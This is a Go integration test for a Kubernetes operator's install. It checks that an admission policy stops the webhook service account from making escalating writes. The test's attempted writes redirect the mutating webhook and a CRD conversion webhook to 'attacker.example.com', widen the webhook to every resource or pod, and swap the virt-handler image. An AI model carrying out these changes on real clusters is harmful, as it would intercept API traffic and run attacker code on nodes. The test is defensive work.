package install

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	hcov1 "github.com/hcokit/hcokit/api/v1"
	"github.com/hcokit/hcokit/hco"
	"github.com/hcokit/hcokit/operands/netresinjector"
	"github.com/hcokit/hcokit/tools/install/internal/installtest"
)

// The install's admission policy hco-webhook-writes (config/guard) lets
// the webhook's service account change only the caBundle of the webhook
// configurations and CRDs its rotators keep, and write the component CRs
// as dry runs only. Asked as that account with every RBAC grant, the API
// server takes a new caBundle and a dry run, and refuses the injector's
// webhook sent to a URL, on every kind, with a second webhook, deleted or
// made anew, a CRD's versions or conversion changed, and a real update of
// the KubeVirt CR (spec.customizeComponents patches virt-handler).
func TestWebhookWritesAreGuarded(t *testing.T) {
	env.Require(t)
	ctx := context.Background()
	const ns = "hco-guard-webhook"
	guarded(t, ctx, ns)
	cfg := rest.CopyConfig(env.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:" + ns + ":hco-webhook", Groups: []string{"system:masters"}}
	webhook, err := client.New(cfg, client.Options{Scheme: env.Client.Scheme()})
	require.NoError(t, err)
	dryRun := client.DryRunAll

	owner := &hcov1.HyperConverged{ObjectMeta: metav1.ObjectMeta{Name: hcov1.HyperConvergedName, Namespace: ns}}
	injector := netresinjector.BuildWebhookConfiguration(owner, hco.Environment{Namespace: ns})
	require.NoError(t, env.Client.Create(ctx, injector))
	t.Cleanup(func() { _ = env.Client.Delete(ctx, injector) })
	kv := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "kubevirt.io/v1", "kind": "KubeVirt",
		"metadata": map[string]any{"name": "kubevirt-kubevirt-hyperconverged", "namespace": ns}, "spec": map[string]any{}}}
	require.NoError(t, env.Client.Create(ctx, kv))
	t.Cleanup(func() { _ = env.Client.Delete(ctx, kv) })
	// customized is the KubeVirt as stored now (the install's stand-in for
	// the component operators writes its status), with virt-handler
	// patched.
	customized := func() *unstructured.Unstructured {
		live := kv.DeepCopy()
		require.NoError(t, env.Client.Get(ctx, client.ObjectKeyFromObject(kv), live))
		require.NoError(t, unstructured.SetNestedSlice(live.Object, []any{map[string]any{
			"resourceName": "virt-handler", "resourceType": "DaemonSet", "type": "json",
			"patch": `[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"example.com/root"}]`}},
			"spec", "customizeComponents", "patches"))
		return live
	}
	installtest.WaitFor(t, "the policy in effect", func() error {
		if err := webhook.Update(ctx, customized()); err == nil || !strings.Contains(err.Error(), "hco-webhook-writes") {
			return fmt.Errorf("a real update of the KubeVirt CR not refused by the policy: %v", err)
		}
		return nil
	})
	assert.NoError(t, webhook.Update(ctx, customized(), dryRun), "the KubeVirt CR, dry run")

	changed := func(change func(c *admissionregistrationv1.MutatingWebhookConfiguration)) *admissionregistrationv1.MutatingWebhookConfiguration {
		c := injector.DeepCopy()
		change(c)
		return c
	}
	assert.NoError(t, webhook.Update(ctx, changed(func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
		c.Webhooks[0].ClientConfig.CABundle = []byte("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
	}), dryRun), "a new caBundle")

	crd := &apiextensionsv1.CustomResourceDefinition{}
	require.NoError(t, env.Client.Get(ctx, client.ObjectKey{Name: "kubevirts.kubevirt.io"}, crd))
	unserved := crd.DeepCopy()
	unserved.Spec.Versions[0].Served = false
	converted := crd.DeepCopy()
	converted.Spec.Conversion = &apiextensionsv1.CustomResourceConversion{Strategy: apiextensionsv1.WebhookConverter,
		Webhook: &apiextensionsv1.WebhookConversion{ConversionReviewVersions: []string{"v1"},
			ClientConfig: &apiextensionsv1.WebhookClientConfig{URL: ptr.To("https://attacker.example.com/convert")}}}
	for what, err := range map[string]error{
		"the injector's webhook, to a URL": webhook.Update(ctx, changed(func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
			c.Webhooks[0].ClientConfig = admissionregistrationv1.WebhookClientConfig{URL: ptr.To("https://attacker.example.com/mutate")}
		}), dryRun),
		"the injector's webhook, on every kind": webhook.Update(ctx, changed(func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
			c.Webhooks[0].Rules[0].APIGroups, c.Webhooks[0].Rules[0].Resources = []string{"*"}, []string{"*/*"}
		}), dryRun),
		"the injector's webhook, on every pod": webhook.Update(ctx, changed(func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
			c.Webhooks[0].ObjectSelector = &metav1.LabelSelector{}
		}), dryRun),
		"a second webhook": webhook.Update(ctx, changed(func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
			second := c.Webhooks[0].DeepCopy()
			second.Name = "second.example.com"
			c.Webhooks = append(c.Webhooks, *second)
		}), dryRun),
		"the injector's webhook, deleted": webhook.Delete(ctx, injector.DeepCopy(), dryRun),
		"a webhook configuration made": webhook.Create(ctx, changed(func(c *admissionregistrationv1.MutatingWebhookConfiguration) {
			c.Name, c.ResourceVersion = "mine", ""
		}), dryRun),
		"a CRD's version unserved":  webhook.Update(ctx, unserved, dryRun),
		"a CRD converted elsewhere": webhook.Update(ctx, converted, dryRun),
		"the KubeVirt CR, really":   webhook.Update(ctx, customized()),
		"the KubeVirt CR, deleted":  webhook.Delete(ctx, kv.DeepCopy(), dryRun),
	} {
		refusedBy(t, err, "hco-webhook-writes", what)
	}
}
